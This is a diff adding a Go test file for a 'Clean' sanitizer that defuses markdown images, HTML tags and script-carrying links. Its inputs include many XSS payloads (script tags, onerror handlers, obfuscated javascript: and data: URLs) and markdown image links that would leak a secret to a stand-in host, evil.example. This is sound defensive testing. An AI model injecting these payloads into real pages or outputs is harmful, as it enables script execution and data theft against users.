@@ -1,0 +1,148 @@
+package visitor
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+// C3: what would load or run something is made inert, visibly: each want
+// differs from its attack in widened characters only.
+func TestCleanDisarms(t *testing.T) {
+	for _, c := range []struct{ attack, want string }{
+		// Markdown images.
+		{"![x](https://evil.example/?q=secret)", "!［x](https://evil.example/?q=secret)"},
+		{"![](https://evil.example)", "!［](https://evil.example)"},
+		{"![x](<https://evil.example>)", "!［x](<https://evil.example>)"},
+		{"![x] (https://evil.example)", "!［x] (https://evil.example)"},
+		{"![x]\n(https://evil.example)", "!［x]\n(https://evil.example)"},
+		{"![x\ny](https://evil.example)", "!［x\ny](https://evil.example)"},
+		{"![a ![b](c) d](e)", "!［a !［b](c) d](e)"},
+		{"[![x](https://evil.example)](https://a.example)", "[!［x](https://evil.example)](https://a.example)"},
+		{"![a]b](https://evil.example)", "!［a]b](https://evil.example)"},
+		{"![a`]`b](https://evil.example)", "!［a`]`b](https://evil.example)"},
+		{`![a\[b](https://evil.example)`, `!［a\[b](https://evil.example)`},
+		{"![x][r]\n\n[r]: https://evil.example", "!［x][r]\n\n[r]: https://evil.example"},
+		{"![r][]\n\n[r]: https://evil.example", "!［r][]\n\n[r]: https://evil.example"},
+		{"![r]\n\n[r]: https://evil.example", "!［r]\n\n[r]: https://evil.example"},
+		{"[r]: https://evil.example\n\n![r]", "[r]: https://evil.example\n\n!［r]"},
+		{"> ![x](https://evil.example)", "> !［x](https://evil.example)"},
+		{"`![x](https://evil.example)`", "`!［x](https://evil.example)`"},
+		{"```\n![x](https://evil.example)\n```", "```\n!［x](https://evil.example)\n```"},
+		{"!\u200B[x](https://evil.example)", "!［x](https://evil.example)"},
+		{"!\x00[x\u202E](https://evil.example)", "!［x](https://evil.example)"},
+		{"![x](data:image/png;base64,AAAA)", "!［x](data：image/png;base64,AAAA)"},
+		{`\![x](https://evil.example)`, `\!［x](https://evil.example)`},
+		// Elements.
+		{"<img src=https://evil.example>", "＜img src=https://evil.example>"},
+		{"<IMG SRC=x onerror=alert(1)>", "＜IMG SRC=x onerror=alert(1)>"},
+		{"<img/src=x>", "＜img/src=x>"},
+		{"<img\nsrc=x>", "＜img\nsrc=x>"},
+		{"<i\x00mg src=x>", "＜img src=x>"},
+		{"<i\u200Bmg src=x>", "＜img src=x>"},
+		{"<\x1b[31mimg src=x>", "＜img src=x>"},
+		{"<img", "＜img"},
+		{"<img\"\"src=x>", "＜img\"\"src=x>"},
+		{"<image src=x>", "＜image src=x>"},
+		{"<script>alert(1)</script>", "＜script>alert(1)＜/script>"},
+		{"<ScRiPt src=//evil.example></sCrIpT >", "＜ScRiPt src=//evil.example>＜/sCrIpT >"},
+		{"<scr<script>ipt>", "<scr＜script>ipt>"},
+		{"<<script>", "<＜script>"},
+		{"<script\t>", "＜script\t>"},
+		{"</script>", "＜/script>"},
+		{"<iframe src=https://evil.example>", "＜iframe src=https://evil.example>"},
+		{"<object data=x>", "＜object data=x>"},
+		{"<embed src=x>", "＜embed src=x>"},
+		{"<svg onload=alert(1)>", "＜svg onload=alert(1)>"},
+		{"<svg/onload=alert(1)>", "＜svg/onload=alert(1)>"},
+		{"<video poster=https://evil.example>", "＜video poster=https://evil.example>"},
+		{"<audio src=x autoplay>", "＜audio src=x autoplay>"},
+		{"<picture><source srcset=x></picture>", "<picture>＜source srcset=x></picture>"},
+		{"<link rel=stylesheet href=x>", "＜link rel=stylesheet href=x>"},
+		{"<style>@import url(x)</style>", "＜style>@import url(x)＜/style>"},
+		{"<meta http-equiv=refresh content='0;url=x'>", "＜meta http-equiv=refresh content='0;url=x'>"},
+		{"<base href=https://evil.example>", "＜base href=https://evil.example>"},
+		{"<form action=https://evil.example><input name=a></form>", "＜form action=https://evil.example>＜input name=a>＜/form>"},
+		{"`<script>`", "`＜script>`"},
+		// Links that run or show what they hold.
+		{"[x](javascript:alert(1))", "[x](javascript：alert(1))"},
+		{"[x](JaVaScRiPt:alert(1))", "[x](JaVaScRiPt：alert(1))"},
+		{"[x]( \n javascript:alert(1))", "[x]( \n javascript：alert(1))"},
+		{"[x](<javascript:alert(1)>)", "[x](<javascript：alert(1)>)"},
+		{"[x](java\nscript:alert(1))", "[x](java\nscript：alert(1))"},
+		{"[x](java\tscript\n:alert(1))", "[x](java\tscript\n：alert(1))"},
+		{"[x](java\x00script:alert(1))", "[x](javascript：alert(1))"},
+		{"[x](\x01javascript:alert(1))", "[x](javascript：alert(1))"},
+		{"[x](java\u00ADscript:alert(1))", "[x](javascript：alert(1))"},
+		{"[x](&#106;avascript:alert(1))", "[x](&#106;avascript：alert(1))"},
+		{"[x](&#x6A;&#x61;vascript:alert(1))", "[x](&#x6A;&#x61;vascript：alert(1))"},
+		{"[x](&#0000106avascript:alert(1))", "[x](&#0000106avascript：alert(1))"},
+		{"[x](javascript&colon;alert(1))", "[x](javascript＆colon;alert(1))"},
+		{"[x](javascript&#58;alert(1))", "[x](javascript＆#58;alert(1))"},
+		{"[x](javascript&#x3a;alert(1))", "[x](javascript＆#x3a;alert(1))"},
+		{"[x](java&Tab;script&NewLine;:alert(1))", "[x](java&Tab;script&NewLine;：alert(1))"},
+		{"[x](&#1;javascript:alert(1))", "[x](&#1;javascript：alert(1))"},
+		{`[x](javascript\:alert(1))`, `[x](javascript\：alert(1))`},
+		{"[x](javascript%3Aalert(1))", "[x](javascript％3Aalert(1))"},
+		{"[x](%6Aavascript:alert(1))", "[x](%6Aavascript：alert(1))"},
+		{"[x](vbscript:msgbox(1))", "[x](vbscript：msgbox(1))"},
+		{"[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](data：text/html;base64,PHNjcmlwdD4=)"},
+		{"[x](DATA:text/html,x)", "[x](DATA：text/html,x)"},
+		{"[x] (data:text/html,x)", "[x] (data：text/html,x)"},
+		{"[a][r]\n\n[r]: javascript:alert(1)", "[a][r]\n\n[r]: javascript：alert(1)"},
+		{"[r]:\n  <data:text/html,x>", "[r]:\n  <data：text/html,x>"},
+		{"[r]:javascript:alert(1)", "[r]:javascript：alert(1)"},
+		{"<javascript:alert(1)>", "<javascript：alert(1)>"},
+		{"<JAVASCRIPT:alert(1)>", "<JAVASCRIPT：alert(1)>"},
+		{"<data:text/html,x>", "<data：text/html,x>"},
+		{"<java&#115;cript:alert(1)>", "<java&#115;cript：alert(1)>"},
+		{"<a href=javascript:alert(1)>", "<a href=javascript：alert(1)>"},
+		{"<a HREF = \"java\nscript:alert(1)\">", "<a HREF = \"java\nscript：alert(1)\">"},
+		{"<a href='&#x20;data:text/html,x'>", "<a href='&#x20;data：text/html,x'>"},
+		{"<button formaction=javascript:x>", "<button formaction=javascript：x>"},
+		{"<a xlink:href=javascript:x>", "<a xlink:href=javascript：x>"},
+	} {
+		t.Run(c.attack, func(t *testing.T) {
+			got := Clean(c.attack).String()
+			require.Equal(t, c.want, got)
+			require.Equal(t, got, Clean(got).String())
+			require.Equal(t, Fold(scrub(c.attack)), Fold(got), "a search finds it as it was")
+		})
+	}
+}
+
+// C3: the rest of <…>, ordinary addresses and code stay. The corpus of benign
+// words holds more; these are near misses.
+func TestCleanLeavesTheInertAlone(t *testing.T) {
+	for _, s := range []string{
+		"vec![1, 2, 3]", "#![allow(dead_code)]\n\nsee [docs](https://example.com)", "if (![1].length) {}", "! [x](https://example.com)",
+		"[x](https://example.com)", "[x](mailto:anna@example.com)", "[r]: https://example.com", "[data](https://example.com/data:1)",
+		"<anna@example.com>", "<link@example.com>", "<https://example.com>", "<imgs>", "<scripts>", "<inputs>", "<form-field>", "<video.example.com>",
+		"<base64>", "< script>", "<_script>", "<b onclick>", "<div>", "<a href=https://example.com>", "</p>", "<imagery>",
+		"javascript: the good parts", "data: 5", "(data:1)", "key = data: 1", "x=javascript:1", "const uri = 'data:,x'", "my[data]: none", "a[i]: int",
+		"[x](javascripts:1)", "[x](java.script:1)", "[x](metadata:1)", "[x](data)", "[x](/data:1)", "<dataset:x>", "[x](javascriptx:1)",
+		"＜script＞", "!［x](https://example.com)", "[x](javascript：alert(1))",
+	} {
+		require.Equal(t, s, Clean(s).String())
+	}
+}
+
+// No spelling of a case, a space or a reference gets through that is built from
+// the pieces that browsers ignore.
+func TestCleanDisarmsEverySpelling(t *testing.T) {
+	gaps := []string{"", "\t", "\n", "\r\n", " ", "&Tab;", "&#10;", "&#x0000d;", "&#9", "%0A", "\x00", "\x1b[0m", "\u200B"}
+	colons := []string{":", `\:`, "&colon;", "&#58;", "&#0058", "&#x3A;", "&#X3a", "%3A", "%3a"}
+	opens := []string{"[x](", "[x](<", "[r]: ", "[r]:\n\t<", "<a href=", "<a href=\"", "<a href = '", "![x]("}
+	for _, open := range opens {
+		for _, gap := range gaps {
+			for _, colon := range colons {
+				for _, name := range activeSchemes {
+					attack := open + gap + name[:2] + gap + strings.ToUpper(name[2:]) + gap + colon + "x"
+					got := Clean(attack).String()
+					require.True(t, strings.ContainsAny(got[len(open):], "：＆％"), "%q became %q", attack, got)
+				}
+			}
+		}
+	}
+}
